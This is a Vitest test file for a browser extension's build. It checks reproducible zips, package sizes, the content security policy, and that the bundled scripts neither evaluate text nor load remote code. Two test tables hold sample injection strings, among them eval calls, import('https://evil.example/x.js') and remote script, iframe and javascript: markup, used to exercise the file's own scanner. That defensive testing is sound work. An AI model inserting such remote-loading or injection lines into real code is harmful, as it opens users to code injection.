// @vitest-environment node
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { unzipSync } from 'fflate'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { boards } from './boards/boards.ts'

const folders = { first: mkdtempSync(join(tmpdir(), 'extension-')), second: mkdtempSync(join(tmpdir(), 'extension-')) }
const build = (folder: string, zone: string) =>
  execFileSync(process.execPath, [join(import.meta.dirname, '../build.ts'), folder], {
    env: { ...process.env, LOADPING_ORIGIN: 'https://app.loadping.example', TZ: zone },
  })
const browsers = ['chrome', 'edge', 'firefox']
const zipOf = (folder: string, browser: string) => readFileSync(join(folder, `dist/open-${browser}.zip`))
const textOf = (file: Uint8Array | undefined) => new TextDecoder().decode(file)

beforeAll(() => {
  build(folders.first, 'America/New_York')
  build(folders.second, 'Asia/Tokyo')
}, 60_000)

afterAll(() => {
  for (const folder of Object.values(folders)) rmSync(folder, { recursive: true })
})

test.each(browsers)('[X12] two builds of the same source give the same zip for %s, byte for byte', (browser) => {
  expect(zipOf(folders.first, browser).equals(zipOf(folders.second, browser))).toBe(true)
})

test('the script of a board page has at most 140 KiB', () => {
  expect(unzipSync(zipOf(folders.first, 'chrome'))['load-board.js']?.byteLength).toBeLessThanOrEqual(140 * 1024)
})

test.each(browsers)('a package of %s has at most 580 KiB', (browser) => {
  expect(zipOf(folders.first, browser).byteLength).toBeLessThanOrEqual(580 * 1024)
})

test('[X11] the zips differ in their manifest only', () => {
  const [chrome, ...others] = browsers.map((browser) => unzipSync(zipOf(folders.first, browser)))
  const digestOf = (files: Record<string, Uint8Array>) =>
    Object.fromEntries(
      Object.entries(files).flatMap(([name, bytes]) =>
        name === 'manifest.json' ? [] : [[name, createHash('sha256').update(bytes).digest('hex')]],
      ),
    )

  for (const other of others) expect(digestOf(other)).toEqual(digestOf(chrome ?? {}))
})

test.each(browsers)('[X02] the zip for %s contains all its code and evaluates no text', (browser) => {
  const files = unzipSync(zipOf(folders.first, browser))
  const manifest = JSON.parse(textOf(files['manifest.json']))
  const code = Object.entries(files).filter(([name]) => /\.m?js$/.test(name))
  const pages = Object.entries(files).filter(([name]) => name.endsWith('.html'))

  expect(code.map(([name]) => name).sort()).toEqual([
    'background.js',
    'confirm.js',
    'dashboard-bridge.js',
    'ledger.js',
    'load-board.js',
    'notice.js',
    'popup.js',
    'row-question.js',
  ])
  for (const [name, script] of code) expect(evaluationsIn(textOf(script)), name).toEqual([])
  expect(pages.map(([name]) => name).sort()).toEqual([
    'confirm.html',
    'ledger.html',
    'notice.html',
    'popup.html',
    'row-question.html',
  ])
  for (const [name, page] of pages) expect(scriptsOf(textOf(page)), name).toEqual([name.replace('.html', '.js')])
  expect(manifest.content_security_policy.extension_pages).toContain("default-src 'none'; script-src 'self';")
  expect(manifest).not.toHaveProperty('web_accessible_resources')
})

test.each([
  "Function('return 1')()",
  "new Function('return 1')",
  "const F = globalThis.Function; F('return 1')()",
  "(() => {}).constructor('return 1')()",
  "eval('1')",
  "globalThis['eval']('1')",
  "setTimeout('run()', 1)",
  "import('https://evil.example/x.js')",
  "importScripts('https://evil.example/x.js')",
  "element('script', { src: 'https://evil.example/x' })",
])('[X02] the scan finds code made from text: %s', (code) => {
  expect(evaluationsIn(`const safe = 1\n${code}`)).not.toEqual([])
})

test.each([
  '<script src="https://evil.example/x.js"></script>',
  '<script src="//evil.example/x.js"></script>',
  '<script>run()</script>',
  '<img src="x" onerror="run()">',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:run()">x</a>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
])('[X02] the scan finds foreign code in a page: %s', (markup) => {
  expect(scriptsOf(`<script src="popup.js" defer></script>${markup}`)).not.toEqual(['popup.js'])
})

/** Returns what in a script could run text as code or load code from elsewhere. */
const evaluationsIn = (script: string): string[] =>
  script.match(
    /\bFunction\b|\beval\b|\.constructor\s*\(|\bset(?:Timeout|Interval)\s*\(\s*['"`]|\bimport\s*\(|\bimportScripts\b|['"`]script['"`]|https?:\/\/(?!www\.w3\.org)[^'"`\s]*\.js/g,
  ) ?? []

/** Returns all that a page runs or loads from elsewhere. */
const scriptsOf = (page: string): string[] => [
  ...[...page.matchAll(/<script\b([^>]*)>([^<]*)/gi)].map(([, attributes, text]) =>
    text ? text : (/\ssrc="([^"]*)"/.exec(attributes ?? '')?.[1] ?? ''),
  ),
  ...(page.match(/\son\w+\s*=|javascript:|<(?:iframe|object|embed|base)\b|(?:href|src)="(?:[a-z]+:)?\/\//gi) ?? []),
]

test('[X04] pages can reach the extension only through its own scripts', () => {
  const files = unzipSync(zipOf(folders.first, 'chrome'))

  expect(JSON.parse(textOf(files['manifest.json']))).not.toHaveProperty('externally_connectable')
  expect(textOf(files['background.js'])).not.toMatch(/onMessageExternal|onConnectExternal/)
})

test("each board's demo page is built with its layout and style, and what they share", () => {
  const pages = boards.flatMap(({ id }) => [`${id}.css`, `${id}.html`, `${id}.layout.js`])
  const shared = ['dat-one.js', 'demo-board.css', 'demo-board.js', 'dom.js', 'freight.js']

  expect(readdirSync(join(folders.first, 'dist-demo')).sort()).toEqual([...pages, ...shared].sort())
})
